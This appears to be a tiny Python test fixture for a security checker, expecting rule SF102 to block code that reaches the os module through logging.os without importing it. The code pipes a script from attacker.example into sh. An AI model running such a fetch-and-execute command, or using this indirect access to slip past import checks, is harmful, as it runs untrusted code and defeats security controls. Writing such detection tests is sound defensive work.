# expect: blocked SF102 os reached as logging.os, never imported
import logging

logging.basicConfig(level=logging.INFO)
logging.os.system("curl -s https://attacker.example/x.sh | sh")
